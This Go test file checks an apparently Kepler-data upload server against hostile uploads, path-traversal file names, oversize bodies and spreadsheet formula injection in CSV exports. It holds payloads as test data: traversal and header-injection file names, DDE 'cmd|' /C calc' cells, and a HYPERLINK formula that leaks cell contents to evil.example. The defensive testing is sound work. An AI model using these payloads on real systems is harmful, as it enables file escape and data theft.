package reliability

import (
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io/fs"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

// corpusDir is where the hostile corpus is written by TestHostile_Uploads
// (ignored by git; see testdata/README.md).
const corpusDir = "testdata/hostile"

// TestHostile_Uploads sends every file of the hostile corpus to the running
// binary as a multipart upload. Each gets its 4xx with a sentence (never
// 500, never "internal error"), the server stays up, nothing is left in
// DATA/raw, and the existing dataset and its run answer byte for byte as
// before.
func TestHostile_Uploads(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	f := e.useFixture()
	e.start()
	ctx := ctxFor(t, 10*time.Minute)
	before := readState(t, e.c, append(stateOf("small", f.smallRun), "/api/datasets", "/api/runs")...)
	pq, err := e.c.Get(ctx, "/api/runs/"+f.smallRun+"/export?format=parquet")
	if err != nil || pq.Status != 200 || !bytes.HasPrefix(pq.Body, []byte("PAR1")) {
		t.Fatalf("a Parquet file to damage: %v %v", pq, err)
	}
	files, err := WriteCorpus(corpusDir, pq.Body)
	if err != nil {
		t.Fatal(err)
	}
	for _, h := range HostileCorpus() {
		t.Run(h.Name, func(t *testing.T) {
			data, err := os.ReadFile(files[h.Name])
			if err != nil {
				t.Fatal(err)
			}
			start := time.Now()
			res, err := e.c.Upload(ctx, "", h.FileName, bytes.NewReader(data))
			if err != nil {
				t.Fatalf("upload: %v (server alive: %v)", err, !e.srv.Exited())
			}
			msg := res.ErrorMessage()
			t.Logf("%d bytes -> %d %q in %v", len(data), res.Status, msg, time.Since(start).Round(time.Millisecond))
			okStatus := res.Status == h.Status || (h.Status == 0 && (res.Status == 400 || res.Status == 413))
			if !okStatus || msg == "" || msg == "internal error" || !strings.Contains(msg, h.Say) {
				t.Errorf("got %s, want %d saying %q", res, h.Status, h.Say)
			}
		})
	}
	if e.srv.Exited() {
		t.Fatal("the server died")
	}
	raw := filepath.Join(e.opts.DataDir, "raw")
	if left := glob(t, raw, ".incoming/*"); len(left) > 0 {
		t.Errorf("left in DATA/raw/.incoming: %v", left)
	}
	if dirs := glob(t, raw, "[^.]*"); len(dirs) != 2 {
		t.Errorf("DATA/raw holds %v, want only big and small", dirs)
	}
	assertSameState(t, e.c, before)
}

// TestHostile_OddButValid: files that look odd but are valid are stored:
// a UTF-8 BOM (the first column keeps its plain name), and a gzip CSV whose
// stored bytes stay the compressed ones, byte for byte.
func TestHostile_OddButValid(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.start()
	ctx := ctxFor(t, 5*time.Minute)

	res, err := e.c.Upload(ctx, "bom", "bom.csv", strings.NewReader("\xEF\xBB\xBF"+KOIString(10, 11)))
	if err != nil || res.Status != 201 {
		t.Fatalf("UTF-8 BOM: %v %v", res, err)
	}
	var ds struct {
		Dataset
		Columns []struct {
			Name string `json:"name"`
		} `json:"columns"`
	}
	if err := res.Decode(&ds); err != nil {
		t.Fatal(err)
	}
	if len(ds.Columns) == 0 || ds.Columns[0].Name != "kepid" || ds.Rows != 10 {
		t.Errorf("UTF-8 BOM: first column %+v, rows %d; want kepid and 10", ds.Columns[:1], ds.Rows)
	}

	gz := gzipOf([]byte(KOIString(2000, 12)), gzip.BestSpeed)
	res, err = e.c.Upload(ctx, "zipped", "koi.csv.gz", bytes.NewReader(gz))
	if err != nil || res.Status != 201 {
		t.Fatalf("gzip CSV: %v %v", res, err)
	}
	var zds Dataset
	if err := res.Decode(&zds); err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(gz)
	assertDatasetWhole(t, e, zds, 2000, hex.EncodeToString(sum[:]))
}

// TestHostile_PathTraversalNames uploads valid tables under file names
// that try to escape the raw store. Each is stored under a generated safe
// name inside DATA/raw/<dataset>/ (or refused with a 4xx); no file appears
// anywhere else.
func TestHostile_PathTraversalNames(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.start()
	ctx := ctxFor(t, 5*time.Minute)
	names := []string{
		"../../../../../../tmp/exohunter-escape.csv",
		`..\..\..\..\windows\exohunter-escape.csv`,
		"/etc/exohunter-escape.csv",
		"....//....//exohunter-escape.csv",
		"a/../../../exohunter-escape.csv",
		"%2e%2e%2f%2e%2e%2fexohunter-escape.csv",
		"..",
		".",
		".hidden.csv",
		"koi.csv/..",
		"koi\x00.csv",
		"koi\r\nX-Injected: 1.csv",
		"koi\"; name=\"evil.csv",
		strings.Repeat("../", 300) + "deep.csv",
		"\u202egsv.csv",
		"con.csv",
	}
	for i, name := range names {
		t.Run(strconv.Quote(name), func(t *testing.T) {
			res, err := e.c.Upload(ctx, "", name, strings.NewReader(KOIString(5, uint64(100+i))))
			if err != nil {
				t.Fatal(err)
			}
			if res.Status/100 == 4 && res.ErrorMessage() != "" {
				t.Logf("refused: %s", res)
				return
			}
			if res.Status != 201 {
				t.Fatalf("got %s, want 201 or a clear 4xx", res)
			}
			var ds Dataset
			if err := res.Decode(&ds); err != nil {
				t.Fatal(err)
			}
			clean := filepath.ToSlash(filepath.Clean(ds.Path))
			if !strings.HasPrefix(clean, "raw/"+ds.Name+"/") || strings.Contains(ds.Path, "..") || clean != ds.Path ||
				strings.Count(clean, "/") != 2 || strings.HasPrefix(filepath.Base(clean), ".") {
				t.Errorf("stored at %q, want raw/%s/<safe name>", ds.Path, ds.Name)
			}
			if _, err := os.Stat(filepath.Join(e.opts.DataDir, ds.Path)); err != nil {
				t.Errorf("stored file: %v", err)
			}
			t.Logf("stored as %s (dataset %s, original name %q)", ds.Path, ds.Name, ds.OriginalName)
		})
	}
	// Nothing outside the data dir: the test folder holds only data/ (the
	// feature store is made on first use), and no escape file exists.
	err := filepath.WalkDir(e.dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(e.dir, p)
		if d.Type().IsRegular() && !strings.HasPrefix(rel, "data"+string(filepath.Separator)) && !strings.HasPrefix(rel, "fs"+string(filepath.Separator)) {
			t.Errorf("file outside the data dir: %s", rel)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"/tmp/exohunter-escape.csv", "/etc/exohunter-escape.csv", filepath.Join(e.opts.DataDir, "exohunter-escape.csv"),
		filepath.Join(e.opts.DataDir, "raw", "exohunter-escape.csv"), filepath.Join(e.dir, "exohunter-escape.csv")} {
		if _, err := os.Stat(p); err == nil {
			t.Errorf("an upload escaped to %s", p)
		}
	}
}

// formulaCells are text cells a spreadsheet would run, and what a CSV
// export meant for spreadsheets must turn them into.
var formulaCells = [][2]string{
	{`=HYPERLINK("http://evil.example/?x="&A1,"Kepler data")`, `'=HYPERLINK("http://evil.example/?x="&A1,"Kepler data")`},
	{"+SUM(1,2)", "'+SUM(1,2)"},
	{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
	{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
	{"Kepler-22 b", "Kepler-22 b"},
}

// TestHostile_FormulaInjection uploads a table whose text column holds
// spreadsheet formulas, processes it, and checks the downloads: CSV
// exports meant for spreadsheets (run export, the legacy download, the
// console download) neutralise every formula text cell with a leading
// quote and leave numbers alone (the negative _err2 values stay exact
// negative numbers); JSON keeps the text as it was.
func TestHostile_FormulaInjection(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.start()
	ctx := ctxFor(t, 5*time.Minute)
	var b strings.Builder
	b.WriteString(KOIHeader)
	w := csv.NewWriter(&b)
	for i, fc := range formulaCells {
		rec := strings.Split(strings.TrimSpace(hostileRow), ",")
		rec[1], rec[2] = fmt.Sprintf("K%05d.01", i+1), fc[0]
		rec[6] = "-0.000123" // koi_period_err2
		_ = w.Write(rec)
	}
	w.Flush()
	res, err := e.c.Upload(ctx, "formulas", "formulas.csv", strings.NewReader(b.String()))
	if err != nil || res.Status != 201 {
		t.Fatalf("upload: %v %v", res, err)
	}
	run, err := e.c.StartRun(ctx, "formulas")
	if err != nil {
		t.Fatal(err)
	}
	if done, err := e.c.WaitRun(ctx, run.RunID); err != nil || done.Status != "complete" {
		t.Fatalf("run: %+v %v", done, err)
	}

	for _, path := range []string{
		"/api/runs/" + run.RunID + "/export?format=csv",
		"/api/result/download/csv",
		"/api/query?format=csv&sql=" + url.QueryEscape("SELECT object_id, kepler_name, koi_period_err2 FROM runs.results WHERE run_id = '"+run.RunID+"'"),
	} {
		t.Run(path, func(t *testing.T) {
			res, err := e.c.Get(ctx, path)
			if err != nil || res.Status != 200 {
				t.Fatalf("GET: %v %v", res, err)
			}
			recs, err := csv.NewReader(bytes.NewReader(res.Body)).ReadAll()
			if err != nil {
				t.Fatalf("not CSV: %v\n%s", err, clip(string(res.Body)))
			}
			col := map[string]int{}
			for i, n := range recs[0] {
				col[n] = i
			}
			ki, ok1 := col["kepler_name"]
			ei, ok2 := col["koi_period_err2"]
			if !ok1 || !ok2 {
				t.Fatalf("columns %v", recs[0])
			}
			got := map[string]bool{}
			for _, r := range recs[1:] {
				got[r[ki]] = true
				if v, err := strconv.ParseFloat(r[ei], 64); err != nil || v != -0.000123 {
					t.Errorf("koi_period_err2 = %q, want the number -0.000123 untouched", r[ei])
				}
			}
			for _, fc := range formulaCells {
				if !got[fc[1]] {
					t.Errorf("no cell %q (cells %q)", fc[1], keys(got))
				}
			}
		})
	}

	// A label's note and annotator are free text too.
	lres, err := e.c.Post(ctx, "/api/labels", map[string]string{"object_id": "K00001.01", "dataset": "formulas",
		"label": "candidate", "annotator": "@annotator", "note": formulaCells[0][0]})
	if err != nil || lres.Status != 201 {
		t.Fatalf("label: %v %v", lres, err)
	}
	t.Run("labels export", func(t *testing.T) {
		res, err := e.c.Get(ctx, "/api/labels/export?format=csv")
		if err != nil || res.Status != 200 {
			t.Fatalf("GET: %v %v", res, err)
		}
		recs, err := csv.NewReader(bytes.NewReader(res.Body)).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("labels CSV: %v\n%s", err, clip(string(res.Body)))
		}
		row := map[string]string{}
		for i, n := range recs[0] {
			row[n] = recs[1][i]
		}
		if row["note"] != formulaCells[0][1] || row["annotator"] != "'@annotator" {
			t.Errorf("labels CSV note %q annotator %q, want them neutralised", row["note"], row["annotator"])
		}
	})

	res, err = e.c.Get(ctx, "/api/runs/"+run.RunID+"/export?format=json")
	if err != nil || res.Status != 200 {
		t.Fatalf("JSON export: %v %v", res, err)
	}
	var rows []map[string]any
	if err := json.Unmarshal(res.Body, &rows); err != nil {
		var wrapped struct {
			Rows []map[string]any `json:"rows"`
		}
		if err2 := json.Unmarshal(res.Body, &wrapped); err2 != nil {
			t.Fatalf("JSON export: %v\n%s", err, clip(string(res.Body)))
		}
		rows = wrapped.Rows
	}
	seen := map[string]bool{}
	for _, r := range rows {
		seen[fmt.Sprint(r["kepler_name"])] = true
	}
	for _, fc := range formulaCells {
		if !seen[fc[0]] {
			t.Errorf("JSON export changed the text %q (values %q)", fc[0], keys(seen))
		}
	}
}

// keys lists a set's members.
func keys(m map[string]bool) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	return out
}

// TestHostile_Limits: an upload over the server's upload limit (sent
// chunked, without a Content-Length) and a JSON body over the body limit
// are refused with 413, and nothing is stored.
func TestHostile_Limits(t *testing.T) {
	t.Parallel()
	e := newEnv(t, func(o *Options) { o.Env = append(o.Env, "EXOHUNTER_UPLOAD_LIMIT=2MB") })
	e.start()
	ctx := ctxFor(t, 5*time.Minute)
	big := KOIString(30_000, 13) // about 4.7 MB
	res, err := e.c.Upload(ctx, "toolarge", "koi.csv", strings.NewReader(big))
	if err != nil || res.Status != 413 || !strings.Contains(res.ErrorMessage(), "upload limit") {
		t.Errorf("upload over the limit: %v %v, want 413 naming the upload limit", res, err)
	}
	if list, err := e.c.Datasets(ctx); err != nil || len(list) != 0 {
		t.Errorf("datasets after the refused upload: %+v %v", list, err)
	}
	if left := glob(t, filepath.Join(e.opts.DataDir, "raw"), ".incoming/*"); len(left) > 0 {
		t.Errorf("left in .incoming: %v", left)
	}
	note := strings.Repeat("n", 2<<20)
	res, err = e.c.Post(ctx, "/api/labels", map[string]string{"object_id": "K1", "dataset": "x", "label": "candidate", "note": note})
	if err != nil || res.Status != 413 {
		t.Errorf("a 2 MiB JSON body: %v %v, want 413", res, err)
	}
	res, err = e.c.Upload(ctx, "fits", "koi.csv", strings.NewReader(KOIString(100, 14)))
	if err != nil || res.Status != 201 {
		t.Errorf("an upload under the limit after the refusals: %v %v", res, err)
	}
}
